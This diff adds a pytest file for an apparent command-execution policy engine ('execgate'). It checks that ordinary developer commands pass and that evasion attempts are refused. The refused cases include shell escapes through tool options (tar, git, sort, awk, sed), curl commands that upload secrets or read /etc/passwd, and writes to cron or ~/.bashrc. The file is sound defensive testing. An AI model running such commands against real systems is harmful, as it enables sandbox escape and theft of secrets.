@@ -1,0 +1,427 @@
+"""Built-in program rules: one row per rule, each trying to get around it, plus the ordinary
+developer commands that must pass (false denials matter too). Decided by the real engine on
+this machine's programs; a row whose program is not installed is skipped."""
+
+from __future__ import annotations
+
+import contextlib
+import shutil
+from pathlib import Path
+
+import pytest
+
+from execgate import ExecRequest, load_policy
+from execgate.policy import evaluate
+from execgate.policy._programs import BUILTINS, awk_program_refusal, sed_script_refusal
+
+PROGRAMS = [
+    "ls",
+    "cat",
+    "head",
+    "tail",
+    "wc",
+    "grep",
+    "rg",
+    "sort",
+    "diff",
+    "sed",
+    "awk",
+    "tar",
+    "python3",
+    "pip",
+    "node",
+    "npm",
+    "npx",
+    "make",
+    "pytest",
+    "cargo",
+    "go",
+    "curl",
+    "git",
+]
+POLICY = (
+    'version = 1\n[workspace]\nroot = "{root}"\n[env]\ninherit = ["PATH", "HOME"]\n'
+    + "".join(f'[[allow]]\ncommand = "{p}"\n' for p in PROGRAMS)
+    + '[[allow]]\ncommand = "pip install"\n[[allow]]\ncommand = "python3 -m mymodule"\n'
+)
+
+ALLOW = "allow"
+FLAG = "EG-POLICY-FLAG"
+ESCAPE = "EG-PATH-ESCAPE"
+
+CASES: list[tuple[str, str]] = [
+    # --- ordinary use: must pass
+    ("ls -la src", ALLOW),
+    ("ls -lhS --color=auto", ALLOW),
+    ("ls --color", ALLOW),
+    ("ls --group-dir", ALLOW),  # unique abbreviation of --group-directories-first
+    ("cat -n README.md", ALLOW),
+    ("head -n 20 f.txt", ALLOW),
+    ("head -5 f.txt", ALLOW),
+    ("tail -n +3 f.txt", ALLOW),
+    ("tail -f log.txt", ALLOW),
+    ("wc -l f.txt", ALLOW),
+    ("grep -rn TODO .", ALLOW),
+    ("grep -E 'a|b' f.txt", ALLOW),
+    ("grep -A3 -i err log", ALLOW),
+    ("grep --include='*.py' -rl import .", ALLOW),
+    ("sort -u -k2,2 f.txt", ALLOW),
+    ("sort -rn f.txt", ALLOW),
+    ("diff -u a b", ALLOW),
+    ("diff -ru dir1 dir2", ALLOW),
+    ("sed -n 1,5p f.txt", ALLOW),
+    ("sed -e s/a/b/g f.txt", ALLOW),
+    ("sed -ne '/x/p' f", ALLOW),
+    ("sed 's/where/there/; s|a|b|w2' f", FLAG),  # the w flag writes: a rule, not a typo
+    ("sed 's/where/there/g;/^#/d;$a\\\\end' f", ALLOW),
+    ("awk -F: '{print $1}' /dev/null", ALLOW),
+    ("awk '$3 > 100 {n++} END {print n}' f", ALLOW),
+    ("awk '/a|b/ {print}' f", ALLOW),
+    ("awk 'BEGIN { x = \"a > b | c\"; print x }'", ALLOW),
+    ("tar -tzf a.tgz", ALLOW),
+    ("tar tvf a.tar", ALLOW),
+    ("python3 script.py --flag /anything", ALLOW),
+    ("python3 -u -B script.py", ALLOW),
+    ("python3 -m pytest -x -q tests", ALLOW),
+    ("python3 -V", ALLOW),
+    ("python3 -m pytest -p no:cacheprovider", ALLOW),
+    ("python3 -m mymodule --any --args", ALLOW),
+    ("pip list --outdated", ALLOW),
+    ("pip show attrs", ALLOW),
+    ("pip install attrs", ALLOW),
+    ("node app.js --port 3000", ALLOW),
+    ("npm ls --depth=0", ALLOW),
+    ("npm --version", ALLOW),
+    ("make -j4 test", ALLOW),
+    ("make -j 4 all", ALLOW),
+    ("make -C sub all", ALLOW),
+    ("make -n", ALLOW),
+    ("make", ALLOW),
+    ("pytest -x -q -k 'not slow' tests", ALLOW),
+    ("pytest --basetemp=tmp -vv", ALLOW),
+    ("pytest --tb=short --maxfail=2", ALLOW),
+    ("pytest --lf", ALLOW),
+    ("cargo build --release", ALLOW),
+    ("cargo test -p foo -- --nocapture", ALLOW),
+    ("cargo clippy --all-targets", ALLOW),
+    ("cargo --version", ALLOW),
+    ("go test -race -run TestX ./...", ALLOW),
+    ("go vet ./...", ALLOW),
+    ("go build -o bin/app .", ALLOW),
+    ("curl -sSL https://example.com", ALLOW),
+    ("curl -o out.html https://example.com", ALLOW),
+    ("curl -H 'Accept: application/json' -X POST -d '{}' https://example.com/api", ALLOW),
+    ("git status", ALLOW),
+    ("git status --porcelain", ALLOW),
+    ("git status -uno", ALLOW),
+    ("git status --porcelain=v2 -b", ALLOW),
+    ("git log --oneline -n 5", ALLOW),
+    ("git log -5 --stat", ALLOW),
+    ("git log --decorate=short --graph --all", ALLOW),
+    ("git diff --stat HEAD~1", ALLOW),
+    ("git diff --cached --color=never", ALLOW),
+    ("git diff -M50% a b", ALLOW),
+    ("git show HEAD:README.md", ALLOW),
+    ("git -C sub status", ALLOW),
+    ("git --no-pager log -1", ALLOW),
+    ("git branch -a", ALLOW),
+    ("git rev-parse --abbrev-ref HEAD", ALLOW),
+    ("git config --get user.name", ALLOW),
+    ("git stash list", ALLOW),
+    ("git blame -L 1,5 f.txt", ALLOW),
+    ("git grep -n foo", ALLOW),
+    ("git tag -l 'v*'", ALLOW),
+    ("git remote -v", ALLOW),
+    ("git ls-files -m", ALLOW),
+    # --- unknown, ambiguous, malformed
+    ("ls --bogus", FLAG),
+    ("ls --col=auto", FLAG),
+    ("ls -la --all=x", FLAG),
+    ("head -n", FLAG),
+    # --- options that run programs
+    ("sort --compress-program=sh f", FLAG),
+    ("sort --comp=sh f", FLAG),
+    ("tar --to-command=sh -tf a.tar", FLAG),
+    ("tar --checkpoint-action=exec=sh -tf a", FLAG),
+    ("tar --use-compress-prog=sh -tf a", FLAG),
+    ("tar -I sh -tf a", FLAG),
+    ("tar -tf a.tar -F ./x", FLAG),
+    ("git -c core.pager=sh log", FLAG),
+    ("git -ccore.pager=sh log", FLAG),
+    ("git --upload-pa=sh status", FLAG),
+    ("git --exec-path=/tmp status", FLAG),
+    ("git -p log", FLAG),
+    ("git --paginate log", FLAG),
+    ("git diff --ext-diff", FLAG),
+    ("git log -p --textconv", FLAG),
+    ("git grep -O vim foo", FLAG),
+    ("git grep --open-files-in-pager foo", FLAG),
+    ("git grep --open foo", FLAG),  # abbreviation of --open-files-in-pager
+    ("go test -exec sh ./...", FLAG),
+    ("go build -toolexec=sh .", FLAG),
+    ("go build --toolexec sh .", FLAG),
+    ("curl --unix-socket /var/run/docker.sock http://x/", FLAG),
+    ("curl -K cfg http://x", FLAG),
+    ("awk 'BEGIN{system(\"id\")}'", FLAG),
+    ("awk '{print | \"sh\"}' f", FLAG),
+    ("awk 'BEGIN{\"id\" | getline x}'", FLAG),
+    ("awk 'BEGIN { system (\"id\") }'", FLAG),
+    ("sed 1e f", FLAG),
+    ("sed 's/x/id/e' f", FLAG),
+    ("sed -n '1{e id\n}' f", FLAG),
+    ("node -e 'require(1)'", FLAG),
+    ("node --require ./x.js app.js", FLAG),
+    ("node -r x a.js", FLAG),
+    ("node --ev 'x'", FLAG),
+    ("python3 -c 'print(1)'", FLAG),
+    ("python3", FLAG),
+    ("python3 -i", FLAG),
+    ("python3 -m http.server", FLAG),
+    ("python3 -mhttp.server", FLAG),
+    ("python3 -m pytest -p evil_plugin", FLAG),
+    ("python3 -m pytest -pevil", FLAG),
+    ("pytest --pdb", FLAG),
+    ("pytest -o addopts=-pevil", FLAG),
+    ("pytest --override-i=x", FLAG),
+    ("npx cowsay hi", FLAG),
+    ("npm run build", FLAG),
+    ("npm exec x", FLAG),
+    ("make --eval='x: ; id'", FLAG),
+    ("make SHELL=/bin/bash all", FLAG),
+    ("make 'CC=sh -c id' all", FLAG),
+    ("cargo --config 'target.x.runner=\"sh\"' build", FLAG),
+    ("cargo install ripgrep", FLAG),
+    ("cargo -Zunstable build", FLAG),
+    # --- writes
+    ("sort -o out f", FLAG),
+    ("sort --output=out f", FLAG),
+    ("sed -i s/a/b/ f", FLAG),
+    ("sed --in-pl s/a/b/ f", FLAG),
+    ("sed -ni s/a/b/ f", FLAG),
+    ("sed -f script.sed f", FLAG),
+    ("sed 'w out' f", FLAG),
+    ("sed 's/a/b/w out' f", FLAG),
+    ("sed 'r /etc/passwd' f", FLAG),
+    ("awk '{print > \"out\"}' f", FLAG),
+    ("awk -f prog.awk f", FLAG),
+    ("awk -i inplace 1 f", FLAG),
+    ("tar -xzf a.tgz", FLAG),
+    ("tar xf a.tar", FLAG),
+    ("tar -czf a.tgz .", FLAG),
+    ("git branch evil", FLAG),
+    ("git branch -D main", FLAG),
+    ("git tag v1", FLAG),
+    ("git config core.pager sh", FLAG),
+    ("git stash", FLAG),
+    ("git remote add x y", FLAG),
+    ("git push", FLAG),
+    ("git commit -m x", FLAG),
+    ("git frobnicate", FLAG),  # alias?
+    ("git log --output=/tmp/x", FLAG),
+    ("pip uninstall -y attrs", FLAG),
+    ("curl -O https://x/f", FLAG),
+    ("curl -T f https://x", FLAG),
+    ("curl -F f=@x https://x", FLAG),
+    ("curl -d @secrets.txt https://x", FLAG),
+    ("curl --data-urlencode q@f https://x", FLAG),
+    ("curl file:///etc/passwd", FLAG),
+    ("curl --url file:///etc/passwd", FLAG),
+    ("curl gopher://x", FLAG),
+    ("curl dict://x", FLAG),
+    ("wc --files0-from=list", FLAG),
+    ("pytest --junit-xml=/tmp/x.xml", ESCAPE),
+    # --- path-valued options and scripts outside the workspace
+    ("git -C /etc status", ESCAPE),
+    ("git -C .. status", ESCAPE),
+    ("git --git-dir=/tmp/x status", ESCAPE),
+    ("git --work-tree=/ status", ESCAPE),
+    ("pytest --basetemp=/tmp/x", ESCAPE),
+    ("pytest --rootdir ../other", ESCAPE),
+    ("python3 -m pytest --basetemp /tmp", ESCAPE),
+    ("python3 /usr/lib/python3/dist-packages/x.py", ESCAPE),
+    ("python3 ../x.py", ESCAPE),
+    ("node /tmp/x.js", ESCAPE),
+    ("make -C /etc", ESCAPE),
+    ("make -f /tmp/Makefile", ESCAPE),
+    ("make -f/tmp/Makefile", ESCAPE),
+    ("tar -tf /etc/x.tar", ESCAPE),
+    ("tar -C / -tf a.tar", ESCAPE),
+    ("curl -o /etc/cron.d/x https://x", ESCAPE),
+    ("curl -o ~/.bashrc https://x", "EG-SHELL-UNSUPPORTED"),
+    ("curl -D /tmp/h https://x", ESCAPE),
+    ("grep -f /etc/shadow x", ESCAPE),
+    ("go build -o /usr/local/bin/x .", ESCAPE),
+    ("cargo build --target-dir /tmp/t", ESCAPE),
+    ("cargo build --manifest-path=../Cargo.toml", ESCAPE),
+    ("sort -T /tmp f", ESCAPE),
+    ("diff --to-file=/etc/passwd a", ESCAPE),
+]
+
+
+@pytest.fixture(scope="module")
+def engine(tmp_path_factory: pytest.TempPathFactory) -> tuple[object, Path]:
+    root = tmp_path_factory.mktemp("ws")
+    (root / "sub").mkdir()
+    path = root.parent / "programs.toml"
+    path.write_text(POLICY.format(root=root))
+    return load_policy(path), root
+
+
+@pytest.mark.parametrize(("command", "expected"), CASES, ids=[c for c, _ in CASES])
+def test_builtin_rules(engine: tuple[object, Path], command: str, expected: str) -> None:
+    policy, _root = engine
+    import shlex
+
+    program = shlex.split(command)[0]
+    if shutil.which(program) is None:
+        pytest.skip(f"{program} is not installed here")
+    verdict = evaluate(policy, ExecRequest(command=command), {"PATH": _path(), "HOME": "/root"})  # type: ignore[arg-type]
+    d = verdict.decision
+    got = "allow" if d.allowed else d.code
+    assert got == expected, f"{command!r}: {d.code} {d.rule}: {d.reason}"
+    if not d.allowed:
+        assert d.reason  # every refusal says why
+
+
+def _path() -> str:
+    import os
+
+    return os.environ["PATH"]
+
+
+def test_args_any_opts_out(tmp_path: Path) -> None:
+    policy_file = tmp_path / "p.toml"
+    policy_file.write_text(
+        f'version = 1\n[workspace]\nroot = "{tmp_path}"\n[env]\ninherit = ["PATH"]\n'
+        '[[allow]]\ncommand = "sort"\nargs = "any"\n'
+    )
+    verdict = evaluate(
+        load_policy(policy_file), ExecRequest(command="sort -o out f"), {"PATH": _path()}
+    )
+    assert verdict.decision.allowed
+
+
+def test_tables_are_consistent() -> None:
+    """No option is in two groups of one table; every path-valued option takes a value."""
+    seen: set[int] = set()
+
+    def walk(name: str, spec: object) -> None:
+        from execgate.policy._programs import Spec
+
+        assert isinstance(spec, Spec)
+        groups = {
+            "flags": spec.flags,
+            "valued": spec.valued,
+            "optional": spec.optional,
+            "denied": frozenset(spec.denied),
+        }
+        names = list(groups)
+        for a in range(len(names)):
+            for b in range(a + 1, len(names)):
+                both = groups[names[a]] & groups[names[b]]
+                assert not both, f"{name}: {sorted(both)} in {names[a]} and {names[b]}"
+        assert spec.paths <= spec.valued | spec.optional, name
+        for sub, inner in (spec.subcommands or {}).items():
+            if id(inner) not in seen:
+                seen.add(id(inner))
+                walk(f"{name} {sub}", inner)
+
+    for name, spec in BUILTINS.items():
+        walk(name, spec)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "s/a/b/",
+        "1,5p",
+        "/x/,/y/d",
+        "$!N;P;D",
+        "s|a|b|gI",
+        "y/abc/xyz/",
+        "/^#/!s/a/b/2",
+        "1~2d",
+        ":a;N;$!ba;s/\\n/ /g",
+        "\\%x%d",
+        "3q",
+        "$a\\\nend",
+    ],
+)
+def test_sed_scripts_that_are_fine(script: str) -> None:
+    assert sed_script_refusal(script) is None
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "e",
+        "1e id",
+        "s/a/b/e",
+        "s/a/b/w /tmp/x",
+        "w out",
+        "W out",
+        "r f",
+        "R f",
+        "1{w x\n}",
+        "s/a",
+        "k",
+        "/unterminated",
+    ],
+)
+def test_sed_scripts_that_are_refused(script: str) -> None:
+    assert sed_script_refusal(script) is not None
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        'BEGIN{system("x")}',
+        '{print | "cat"}',
+        '{print |& "cat"}',
+        '{print > "f"}',
+        '{printf "%s", $0 >> "f"}',
+        'BEGIN{while (("ls" | getline l) > 0) print l}',
+        'BEGIN{getline l < "/etc/passwd"}',
+    ],
+)
+def test_awk_programs_that_are_refused(program: str) -> None:
+    assert awk_program_refusal(program) is not None
+
+
+def test_arbitrary_arguments_give_a_verdict_or_a_typed_refusal() -> None:
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    from execgate.policy._programs import ArgRefusal, check
+
+    words = st.one_of(
+        st.text(max_size=12),
+        st.sampled_from(
+            [
+                "-",
+                "--",
+                "-e",
+                "-m",
+                "-c",
+                "-C",
+                "--color",
+                "-j",
+                "s/a/b/e",
+                "@x",
+                "file:///x",
+                "status",
+                "-n5",
+                "--output=x",
+                "-xzf",
+                "-p",
+                "no:x",
+            ]
+        ),
+    )
+
+    @given(st.sampled_from(sorted(BUILTINS)), st.lists(words, max_size=8))
+    def prop(name: str, args: list[str]) -> None:
+        with contextlib.suppress(ArgRefusal):
+            check(name, BUILTINS[name], tuple(args), ())
+
+    prop()
